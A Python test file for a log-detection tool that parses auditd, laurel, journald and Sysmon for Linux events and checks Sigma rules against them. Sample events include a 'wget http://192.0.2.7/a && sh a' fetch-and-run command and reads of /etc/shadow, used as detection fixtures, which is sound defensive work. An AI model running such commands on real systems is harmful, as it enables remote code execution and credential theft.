"""The audit log (auditd, laurel), the journal and Sysmon for Linux: events joined, decoded, mapped, and met by rules."""

from __future__ import annotations

import json
import time
from typing import Any

import orjson
import polars as pl
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from nonself.detect.sigma import Ruleset
from nonself.detect.sigma.reading import compile_files
from nonself.sources import lines, read
from nonself.sources.auditd import Auditd
from nonself.sources.auditd_fields import Address, address, record
from nonself.sources.contract import Chunk, Limits
from nonself.sources.journald import Journald
from nonself.sources.laurel import Laurel
from nonself.sources.syslog import Syslog
from nonself.sources.sysmon_linux import SysmonLinux
from samples_unix import AUDIT, CONNECTED, CREATED, EVENT, SAMPLES, SSHD, SYSMON_IN_SYSLOG, entry, sysmon

SOURCES = {"auditd": Auditd(), "laurel": Laurel(), "journald": Journald(), "sysmon-linux": SysmonLinux(), "syslog": Syslog()}
IN_JOURNAL = next(data for name, data, _ in SAMPLES["journald"] if name == "sysmon.json")
STAMP = "msg=audit(1772445601.100:%d): "


def chunks(source: str, data: bytes, limits: Limits | None = None) -> list[Chunk]:
    return list(SOURCES[source].read(lines.in_memory(data), limits or Limits()))


def rows(source: str, data: bytes, limits: Limits | None = None) -> list[dict[str, Any]]:
    """The events without nulls, `ext` as a dict."""
    found = pl.concat([chunk.events for chunk in chunks(source, data, limits)])
    plain = [{name: value for name, value in row.items() if value is not None} for row in found.iter_rows(named=True)]
    return [{**row, "ext": orjson.loads(row.get("ext", "{}"))} for row in plain]


def one(kind: str, fields: str, serial: int = 1) -> bytes:
    return f"type={kind} {STAMP % serial}{fields}\n".encode()


def has(row: dict[str, Any], **expected: Any) -> None:
    assert {name: row.get(name) for name in expected} == expected


def reasons(found: list[Chunk]) -> list[str]:
    return [letter.reason for chunk in found for letter in chunk.dead]


def test_records_that_interleave_are_joined_by_serial() -> None:
    executed, connected, login = rows("auditd", AUDIT)
    has(executed, op="execve", class_uid=1007, activity_id=1, status_id=1, pid=901, parent_pid=900, user="ann", user_uid="1000",
        role="root", session="3", image="/usr/bin/cat", cmdline="cat /etc/shadow a b", cwd="/root", channel="SYSCALL",
        record=0)  # fmt: skip
    assert str(executed["time"]) == "2026-03-02 10:00:01.100000+00:00"
    assert executed["raw"].encode() == b"\n".join(line for line in AUDIT.split(b"\n") if b":101)" in line)
    assert executed["ext"]["type"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert [executed["ext"].get(f"a{n}") for n in range(4)] == ["cat", "/etc/shadow", "a b", None]
    assert (executed["ext"]["name"], executed["ext"]["key"], executed["ext"]["comm"]) == (["/usr/bin/cat"], "exec", "cat")
    has(connected, op="connect", class_uid=4001, dst_ip="192.0.2.7", dst_port=8080, direction_id=2, user_uid="33", status_id=2)
    assert "user" not in connected and "session" not in connected
    has(login, op="USER_LOGIN", class_uid=3002, status_id=2, user="bob", src_ip="198.51.100.7", image="/usr/sbin/sshd", host="web1",
        app_proto="ssh")  # fmt: skip


def test_laurel_says_what_auditd_says() -> None:
    first, _ = rows("laurel", SAMPLES["laurel"][0][1])
    raw = rows("auditd", AUDIT)[0]
    same = (
        "time",
        "op",
        "class_uid",
        "activity_id",
        "pid",
        "parent_pid",
        "user",
        "user_uid",
        "role",
        "session",
        "image",
        "cwd",
        "status_id",
    )
    assert {name: first[name] for name in same} == {name: raw[name] for name in same}
    has(first, cmdline="cat /etc/shadow", parent_image="/usr/bin/bash", host="web1")
    assert first["ext"]["name"] == ["/usr/bin/cat", "/lib64/ld.so"]
    assert set(first["ext"]["type"]) >= {"SYSCALL", "EXECVE", "PATH"}


def test_laurel_names_a_parent_in_two_ways() -> None:
    for name in ("PARENT_INFO", "PPID"):
        parent = f'"{name}":{{"EVENT_ID":"1772445601.000:7","comm":"bash","exe":"/usr/bin/bash","ppid":1}}'
        call = '"SYSCALL":{"syscall":59,"SYSCALL":"execve","success":"yes","pid":5,"ppid":4,"exe":"/usr/bin/id"},"PID":{"EVENT_ID":"x"}'
        (row,) = rows("laurel", f'{{"ID":"1772445601.100:9",{parent},{call}}}\n'.encode())
        has(row, op="execve", image="/usr/bin/id", parent_image="/usr/bin/bash", parent_pid=4)


@pytest.mark.parametrize(
    ("kind", "fields", "expected"),
    [
        ("USER_CMD", "pid=5 uid=1000 auid=1000 ses=2 msg='cwd=\"/home/ann\" cmd=636174202F6574632F736861646F77 terminal=pts/0 res=success'"
         '\x1dUID="ann" AUID="ann"',
         {"class_uid": 3003, "user": "ann", "tgt_user": "root", "cmdline": "cat /etc/shadow", "cwd": "/home/ann", "status_id": 1}),
        ("ADD_USER", "pid=5 uid=0 auid=1000 msg='op=add-user acct=\"eve\" id=1003 exe=\"/usr/sbin/useradd\" res=success'\x1dAUID=\"ann\"",
         {"class_uid": 3001, "activity_id": 1, "user": "ann", "tgt_user": "eve", "tgt_uid": "1003"}),
        ("ADD_GROUP", "pid=5 uid=0 auid=0 msg='op=add-group grp=\"ops\" exe=\"/usr/sbin/groupadd\" res=success'",
         {"class_uid": 3006, "priv": "ops", "user": "root"}),
        ("USER_AUTH", "pid=5 uid=1000 auid=1000 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/bin/su\" res=failed'\x1dAUID=\"ann\"",
         {"class_uid": 3002, "user": "ann", "tgt_user": "root", "status_id": 2}),
        ("USER_LOGIN", "pid=5 uid=0 auid=4294967295 msg='op=login acct=28756E6B6E6F776E207573657229 addr=192.0.2.1 res=failed'",
         {"class_uid": 3002, "src_ip": "192.0.2.1", "status_id": 2}),
        ("USER_END", "pid=5 uid=0 auid=1000 ses=9 msg='op=PAM:session_close acct=\"ann\" res=success'", {"activity_id": 2, "session": "9"}),
        ("SERVICE_STOP", "pid=1 uid=0 auid=4294967295 msg='unit=ufw comm=\"systemd\" res=success'", {"service": "ufw"}),
        ("ANOM_PROMISCUOUS", "dev=eth0 prom=256 old_prom=0 auid=1000 uid=0", {"class_uid": 2004, "rule": "ANOM_PROMISCUOUS"}),
        ("AVC", 'avc:  denied  { read write } for  pid=5 comm="x" name="shadow" tclass=file', {"status_id": 2, "resource": "shadow"}),
        ("SYSCALL", "arch=c000003e syscall=263 success=yes pid=5 uid=0 auid=0", {"op": "unlinkat", "class_uid": 1001, "activity_id": 4}),
        ("SYSCALL", "arch=c00000b7 syscall=221 success=yes pid=5", {"op": "execve", "class_uid": 1007}),
        ("SYSCALL", "arch=14 syscall=11 success=yes pid=5", {"op": "11", "class_uid": 0}),
        ("SYSCALL", "arch=40000003 syscall=11 success=yes pid=5", {"op": "execve", "class_uid": 1007}),
        ("SYSCALL", "arch=40000003 syscall=102 a0=3 success=yes pid=5", {"op": "connect", "class_uid": 4001}),
        ("SYSCALL", "arch=40000003 syscall=213 success=yes pid=5", {"op": "setuid32", "class_uid": 1007, "activity_id": 5}),
        ("SYSCALL", "arch=c000003e syscall=56 success=yes pid=5", {"op": "clone", "class_uid": 1007}),
        ("EXECVE", 'argc=2 a0="id" a1="-a"', {"op": "EXECVE", "class_uid": 1007, "activity_id": 1, "cmdline": "id -a"}),
        ("SYSCALL", "arch=c000003e syscall=313 SYSCALL=finit_module pid=5", {"op": "finit_module", "class_uid": 1005}),
    ],
)  # fmt: skip
def test_records_fill_their_columns(kind: str, fields: str, expected: dict[str, Any]) -> None:
    (row,) = rows("auditd", one(kind, fields))
    has(row, **expected)
    assert row["ext"]["type"] == [kind]


UNSET = "pid=5 uid=0 auid=4294967295 ses=4294967295"
SSH = 'exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh'


@pytest.mark.parametrize(
    ("kind", "fields", "expected"),
    [
        ("USER_LOGIN", f"{UNSET} msg='op=login acct=\"(invalid user)\" {SSH} res=failed'",
         {"user": None, "user_uid": None, "src_ip": "203.0.113.9", "status_id": 2}),
        ("USER_LOGIN", f"{UNSET} msg='op=login acct=\"root\" {SSH} res=failed'", {"user": "root", "user_uid": "0"}),
        ("USER_LOGIN", f"pid=5 uid=0 auid=1000 ses=3 msg='op=login id=1000 {SSH} res=success'\x1dUID=\"root\" AUID=\"ann\" ID=\"ann\"",
         {"user": "ann", "user_uid": "1000", "status_id": 1}),
        ("CRYPTO_SESSION", f"{UNSET} msg='op=start rport=50123 laddr=192.0.2.4 lport=22 {SSH} res=success'",
         {"user": None, "src_ip": "203.0.113.9", "src_port": 50123, "dst_ip": "192.0.2.4", "dst_port": 22}),
        ("USER_ERR", f"{UNSET} msg='op=PAM:bad_ident acct=\"?\" {SSH} res=failed'", {"user": None, "src_ip": "203.0.113.9"}),
        ("CRED_ACQ", "pid=5 uid=0 auid=1000 ses=3 msg='op=PAM:setcred acct=\"root\" exe=\"/usr/bin/sudo\" res=success'",
         {"user": None, "user_uid": "1000", "tgt_user": "root"}),
        ("USER_ACCT", "pid=5 uid=1000 auid=1000 ses=3 msg='op=PAM:accounting acct=\"ann\" exe=\"/usr/bin/sudo\" res=success'",
         {"user": "ann", "user_uid": "1000", "tgt_user": None}),
        ("USER_AUTH", "user pid=5 uid=0 auid=4294967295 msg='PAM: authentication acct=\"ann\" : exe=\"/usr/sbin/sshd\" "
         "(hostname=mail.example.net, addr=203.0.113.9, terminal=ssh res=failed)'",
         {"user": "ann", "src_ip": "203.0.113.9", "src_host": "mail.example.net", "status_id": 2, "status_code": "failed"}),
        ("USER_START", f"pid=5 uid=0 auid=1000 ses=3 msg='op=login id=1000 {SSH} res=successUID=\"root\" AUID=\"ann\" ID=\"ann\"",
         {"user": "ann", "status_id": 1, "status_code": "success"}),
        ("LOGIN", "pid=5 uid=0 old auid=4294967295 new auid=1000 old ses=4294967295 new ses=7", {"user_uid": "1000", "session": "7"}),
        ("DEL_USER", "pid=5 uid=0 auid=1000 msg='op=delete-user id=1003 res=success'\x1dUID=\"root\" AUID=\"ann\" ID=\"eve\"",
         {"user": "ann", "tgt_user": "eve", "tgt_uid": "1003"}),
        ("ADD_GROUP", "pid=5 uid=0 auid=1000 msg='op=add-group id=1003 res=success'\x1dUID=\"root\" AUID=\"ann\" ID=\"ops\"",
         {"priv": "ops", "tgt_user": None}),
        ("USER_MGMT", "pid=5 uid=0 auid=0 msg='op=add-user-to-group grp=\"wheel\" acct=\"eve\" res=success'",
         {"class_uid": 3006, "activity_id": 3, "tgt_user": "eve", "priv": "wheel"}),
        ("USER_CHAUTHTOK", "pid=5 uid=0 auid=0 msg='op=deleting user from shadow group acct=\"eve\" res=success'",
         {"class_uid": 3006, "activity_id": 4, "tgt_user": "eve"}),
        ("GRP_MGMT", "pid=5 uid=0 auid=0 msg='op=add-shadow-group grp=\"ops\" res=success'", {"activity_id": 99, "priv": "ops"}),
        ("AVC", 'apparmor="DENIED" operation="open" profile="/usr/sbin/named" name="/etc/shadow" pid=5 comm="named" denied_mask="r"',
         {"status_id": 2, "status_code": "denied", "resource": "/etc/shadow"}),
        ("AVC", 'apparmor="ALLOWED" operation="open" profile="x" name="/etc/motd" pid=5', {"status_id": 1, "status_code": "allowed"}),
        ("AVC", 'avc:  denied  { read } for  pid=5 comm="x" name="shadow" permissive=1', {"status_id": 1, "status_code": "denied"}),
        ("USER_AVC", f"{UNSET} msg='avc:  denied  {{ start }} for auid=n/a uid=0 tclass=service permissive=0'", {"status_id": 2}),
        ("ANOM_LOGIN_FAILURES", f"{UNSET} msg='pam_faillock uid=1001  {SSH} res=success'", {"class_uid": 2004, "src_ip": "203.0.113.9"}),
        ("KERN_MODULE", 'name="evil"', {"class_uid": 1005, "module_path": "evil"}),
    ],
)  # fmt: skip
def test_who_acts_is_whom_the_record_means_of_any_age(kind: str, fields: str, expected: dict[str, Any]) -> None:
    (row,) = rows("auditd", one(kind, fields))
    has(row, **expected)


def test_names_are_found_where_the_control_character_before_them_is_lost() -> None:
    call = one("SYSCALL", 'arch=c000003e syscall=42 success=yes pid=5 uid=0 auid=1000 key=(null)ARCH=x86_64 SYSCALL=connect AUID="ann"')
    there = one("SOCKADDR", "saddr=02000050C000020700000000000000AFSADDR={ saddr_fam=inet laddr=192.0.2.7 lport=80 }")
    (row,) = rows("auditd", call + there)
    has(row, user="ann", dst_ip="192.0.2.7", dst_port=80)
    assert "key" not in row["ext"]
    (row,) = rows("auditd", one("SYSCALL", 'arch=c000003e syscall=59 success=yes pid=5 comm="1UID=" exe="/bin/1AUID=" UID="bob"'))
    has(row, image="/bin/1AUID=")


@pytest.mark.parametrize(
    ("call", "nametype", "activity", "path"),
    [
        ("syscall=257 a2=0", "NORMAL", 2, "/etc/shadow"), ("syscall=257 a2=80441", "NORMAL", 3, "/etc/shadow"),
        ("syscall=257 a2=80441", "CREATE", 1, "/etc/shadow"), ("syscall=87", "DELETE", 4, "/etc/shadow"),
        ("syscall=90", "NORMAL", 7, "/etc/shadow"),
    ],
)  # fmt: skip
def test_files_are_the_last_path_made_absolute(call: str, nametype: str, activity: int, path: str) -> None:
    data = one("SYSCALL", f"arch=c000003e {call} success=yes pid=5") + one("CWD", 'cwd="/etc/ssh"')
    data += one("PATH", 'item=0 name="/etc" nametype=PARENT') + one("PATH", f'item=1 name="../shadow" nametype={nametype}')
    (row,) = rows("auditd", data)
    has(row, class_uid=1001, activity_id=activity, file_path=path)


def test_values_in_hex() -> None:
    fields = record("EXECVE", b'argc=4 a0="sh" a1=2D63 a2[0]=6563686F a2[1]=20C3A9 a3=AB').fields
    assert fields == {"argc": "4", "a0": "sh", "a1": "-c", "a2[0]": "echo", "a2[1]": " é", "a3": "\ufffd"}
    assert record("PROCTITLE", b"proctitle=7368002D6300").fields == {"proctitle": "sh -c"}
    assert record("SYSCALL", b"a0=2D63 syscall=59 key=656C7601786563 comm=DEADBEE").fields["a0"] == "2D63"
    (row,) = rows("auditd", one("SYSCALL", "arch=c000003e syscall=59 key=656C6601786563"))
    assert row["ext"]["key"] == ["elf", "xec"]


@pytest.mark.parametrize(
    ("saddr", "expected"),
    [
        ("020000357F0000010000000000000000", Address("127.0.0.1", 53)),
        ("0A000016000000002001" + "00" * 13 + "0100000000", Address("2001::1", 22)),
        ("0A00001600000000" + "00" * 10 + "FFFF0A000005" + "00000000", Address("10.0.0.5", 22)),
        ("01002F72756E2F782E736F636B00", Address(path="/run/x.sock")),
        ("0200", Address()), ("zz", Address()), ("", Address()), ("1000000000000000", Address()),
    ],
)  # fmt: skip
def test_socket_addresses(saddr: str, expected: Address) -> None:
    assert address(saddr) == expected


@pytest.mark.parametrize("size", [1, 2, 3, 8192])
def test_chunks_never_part_an_event(size: int) -> None:
    data = AUDIT + b"".join(one("SYSCALL", "arch=c000003e syscall=59 pid=1", n) + one("CWD", 'cwd="/"', n) for n in range(500, 900))
    whole = pl.concat([chunk.events for chunk in chunks("auditd", data)])
    parts = chunks("auditd", data, Limits(chunk_records=size))
    assert pl.concat([chunk.events for chunk in parts]).equals(whole)
    assert max(chunk.events.height for chunk in parts) <= size
    assert sum(chunk.bytes for chunk in parts) == len(data)
    assert whole.height == 403


def test_a_flood_of_serials_closes_the_oldest_and_holds_little() -> None:
    flood = b"".join(one("SYSCALL", "arch=c000003e syscall=59 pid=1", n) for n in range(1000))
    found = rows("auditd", one("SYSCALL", "arch=c000003e syscall=59 pid=7", 7777) + flood + one("CWD", 'cwd="/late"', 7777))
    assert len(found) == 1002
    assert [row["record"] for row in found] == sorted(row["record"] for row in found)
    assert "cwd" not in found[0]
    many = b"".join(one("PATH", f'item={n} name="/{n}"', 5) for n in range(3000))
    assert [len(row["raw"].split("\n")) for row in rows("auditd", many)] == [1024, 1024, 952]


def test_lines_that_are_no_records_say_why() -> None:
    data = one("CWD", 'cwd="/"') + b"type=CWD msg=audit(1.2:3): x\nnonsense\n" + one("EOE", "", 9)
    data += b'type=CWD msg=audit(999999999999.000:3): cwd="/"\n'
    assert sorted(reasons(chunks("auditd", data))) == ["bad-time", "no-records", "not-auditd", "not-auditd"]
    bad = [{**EVENT, "ID": 5}, {**EVENT, "ID": "999999999999.000:1"}, {"ID": "1.000:1"}, {"ID": "1.000:1", "SYSCALL": [1, None]}]
    found = chunks("laurel", b"".join(json.dumps(event).encode() + b"\n" for event in bad))
    assert reasons(found) == ["bad-time", "bad-time", "no-records", "no-records"]


HOSTILE = [
    b"msg='" + b"a='b" * 20_000, b'a="' * 20_000, b"SADDR={" * 20_000, b"a" * 100_000, b"a=" * 50_000, b"'" * 100_000, b'name="\0\x1b[2J"',
    b"proctitle=" + b"41" * 50_000, b"a0=" + b"4" * 100_001, b"=" * 100_000, b"a[" * 50_000, b"\x1d" * 100_000,
    b"avc:  denied" + b" " * 100_000,
    b" ".join(b"f%d=1" % n for n in range(10_000)), b"a999999999999=1 a1[999999999999]=2", b"pid=1e999 ppid=NaN uid=99999999999999999999",
]  # fmt: skip


@pytest.mark.parametrize("kind", ["SYSCALL", "EXECVE", "USER_LOGIN", "AVC"])
@pytest.mark.parametrize("fields", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_fields_cost_no_more_than_their_length(kind: str, fields: bytes) -> None:
    data = f"type={kind} {STAMP % 1}".encode() + fields + b"\n"
    before = time.process_time()
    found = chunks("auditd", data + one("CWD", 'cwd="/"', 2))
    assert time.process_time() - before < 100e-3 * len(data) / 1024 + 1
    assert sum(chunk.events.height for chunk in found) == 2


@settings(max_examples=40)
@given(st.binary(max_size=300))
def test_no_bytes_break_a_record(rest: bytes) -> None:
    data = (f"type=EXECVE {STAMP % 1}".encode() + rest).replace(b"\n", b" ") + b"\n"
    assert len(rows("auditd", data)) == 1


def journal(**more: object) -> list[dict[str, Any]]:
    return rows("journald", json.dumps(entry(1, **more)).encode())


def test_the_journal_is_understood_as_syslog_is() -> None:
    accepted, failed, kernel = rows("journald", SAMPLES["journald"][0][1])
    has(accepted, op="accepted", user="ann", src_ip="10.0.0.5", src_port=50123, cred="SHA256:abc", host="web1", pid=811, class_uid=3002,
        image="/usr/sbin/sshd", cmdline="sshd: ann [priv]", log_provider="sshd", channel="authpriv", severity_id=1)  # fmt: skip
    assert str(accepted["time"]) == "2026-03-02 10:00:01.000250+00:00"
    has(failed, op="failed", user="bo\ufffdb", src_ip="198.51.100.7")
    has(kernel, class_uid=0, severity_id=3, log_provider="kernel")
    assert accepted["ext"] == {} and json.loads(accepted["raw"])["_COMM"] == "sshd"
    sudo = "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls"
    has(journal(SYSLOG_IDENTIFIER="sudo", MESSAGE=sudo, _CMDLINE="sudo ls", _EXE="/usr/bin/sudo")[0], cmdline="/bin/ls", image="/bin/ls")


@pytest.mark.parametrize(
    "message", [None, [], 5, {"a": 1}, [256], [1.5], [["x"]], "a\nb\0c", "\x1b" * 9, [True], ["Invalid user", "y"], ""]
)
def test_any_message_is_an_event(message: object) -> None:
    (row,) = journal(**{**SSHD, "MESSAGE": message, "_PID": ["1", "2"], "PRIORITY": "99", "SYSLOG_FACILITY": [1], "_EXE": {"x": 1}})
    has(row, class_uid=0, pid=1, host="web1")
    assert "severity_id" not in row and "image" not in row


@pytest.mark.parametrize("stamp", ["", "x", "-5", "9" * 18, "9" * 400, 5, None, "٣", ["1"]])
def test_a_journal_entry_without_a_time_says_so(stamp: object) -> None:
    assert reasons(chunks("journald", json.dumps(entry(1, __REALTIME_TIMESTAMP=stamp)).encode())) == ["bad-time"]


def test_sysmon_is_the_same_in_a_file_in_syslog_and_in_the_journal() -> None:
    found = [rows(*where) for where in (
        ("sysmon-linux", SAMPLES["sysmon-linux"][0][1]), ("syslog", SYSMON_IN_SYSLOG[1]), ("journald", IN_JOURNAL))]  # fmt: skip
    both = ("time", "op", "class_uid", "channel", "image", "user", "proc_guid", "ext", "host", "pid")
    assert all(
        {n: row[n] for n in both} == {n: first[n] for n in both} for other in found for row, first in zip(other, found[0], strict=True)
    )
    created, connected = found[0]
    has(created, op="1", class_uid=1007, activity_id=1, image="/usr/bin/wget", cmdline="wget http://192.0.2.7/a && sh a", cwd="/tmp",
        parent_cmdline='sh -c "wget"', parent_pid=900, hash="ab" * 32, user="www-data", host="web1")  # fmt: skip
    assert created["ext"]["CommandLine"] == "wget http://192.0.2.7/a && sh a" and created["ext"]["EventID"] == 1
    assert str(created["time"]) == "2026-03-02 10:00:01.130000+00:00"
    has(connected, op="3", class_uid=4001, dst_ip="192.0.2.7", dst_port=80, src_port=50123, proto="tcp", direction_id=2)
    assert "dst_host" not in connected


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (sysmon(5, 1, Image="/bin/x"), {"class_uid": 1007, "activity_id": 2}),
        (
            sysmon(1, 1, ParentProcessGuid="{00000000-0000-0000-0000-000000000000}", Hashes="IMPHASH=" + "ab" * 16),
            {"class_uid": 1007, "parent_guid": None, "hash": None},
        ),
        (
            sysmon(11, 1, TargetFilename="/etc/cron.d/x", Image="/bin/x"),
            {"class_uid": 1001, "activity_id": 1, "file_path": "/etc/cron.d/x"},
        ),
        (sysmon(23, 1, TargetFilename="/x", Image="/bin/x"), {"class_uid": 1001, "activity_id": 4}),
        (sysmon(99, 1, Image="/bin/x"), {"class_uid": 0, "op": "99", "image": "/bin/x"}),
        (sysmon(1, 1, CommandLine="&lt;&#65;&#x42;&amp;lt;&nope;&#xD800;&#9999999;"), {"cmdline": "<AB&lt;&nope;\ufffd\ufffd"}),
    ],
)
def test_sysmon_events(event: str, expected: dict[str, Any]) -> None:
    has(rows("sysmon-linux", event.encode())[0], **expected)


@pytest.mark.parametrize(
    "event",
    [
        CREATED.replace("<Event>", '<!DOCTYPE x [<!ENTITY a "b">]><Event>'), CREATED.replace("<EventData>", "<![CDATA[x]]><EventData>"),
        CREATED.replace("<Channel>", "<Channel "), "<Event>" * 1000, CREATED[:200], CREATED.replace("<EventID>1<", "<EventID>x<"),
    ],
)  # fmt: skip
def test_xml_of_another_form_is_refused(event: str) -> None:
    assert reasons(chunks("sysmon-linux", event.encode())) == ["not-sysmon"]
    (row,) = rows("syslog", f"Mar  2 10:00:01 web1 sysmon[600]: {event}\n".encode())
    has(row, class_uid=0, log_provider="sysmon")


def fired(data: bytes, *rules: tuple[dict[str, str], dict[str, Any]]) -> list[str]:
    """The titles of the rules that the log sets off; a rule is its log source and its selection."""
    documents = [
        {"title": str(at), "id": f"r{at}", "level": "high", "logsource": {"product": "linux", **source},
         "detection": {"sel": selection, "condition": "sel"}} for at, (source, selection) in enumerate(rules)
    ]  # fmt: skip
    compiled = compile_files([("rules.yml", yaml.safe_dump_all(documents).encode())])
    assert not compiled.rejected
    found = pl.concat([chunk.events for chunk in read(lines.in_memory(data), Limits())[1]])
    return sorted(set(Ruleset(compiled).match(found)["rule"].to_list()))


def test_rules_on_audit_fields_hit() -> None:
    audit = {"service": "auditd"}
    rules = [
        (audit, {"type": "EXECVE", "a0": "cat", "a1|contains": "shadow"}), (audit, {"type": "SYSCALL", "exe|endswith": "/cat"}),
        (audit, {"type": "PATH", "name|startswith": "/usr/bin"}), (audit, {"SYSCALL": "execve", "key": "exec"}),
        (audit, {"type": "EXECVE", "a0": "55d1"}),
    ]  # fmt: skip
    assert len(fired(AUDIT, *rules)) == len(fired(SAMPLES["laurel"][0][1], *rules)) == 4
    assert len(fired(AUDIT, (audit, {"type": "USER_LOGIN", "res": "failed"}))) == 1
    assert len(fired(AUDIT, (audit, {"SYSCALL": "connect"}))) == 1


@pytest.mark.parametrize("data", [SAMPLES["sysmon-linux"][0][1], SYSMON_IN_SYSLOG[1], IN_JOURNAL], ids=["xml", "syslog", "journal"])
def test_rules_on_sysmon_fields_hit_wherever_it_is_written(data: bytes) -> None:
    rules = [
        ({"category": "process_creation"}, {"Image|endswith": "/wget", "CommandLine|contains": "http", "ParentImage|endswith": "/sh"}),
        ({"category": "network_connection"}, {"Initiated": "true", "DestinationIp": "192.0.2.7"}),
        ({"category": "file_event"}, {"Image|endswith": "/wget"}),
    ]
    assert len(fired(data, *rules)) == 2
    assert CONNECTED.encode()[:40] in data.replace(b'\\"', b'"')
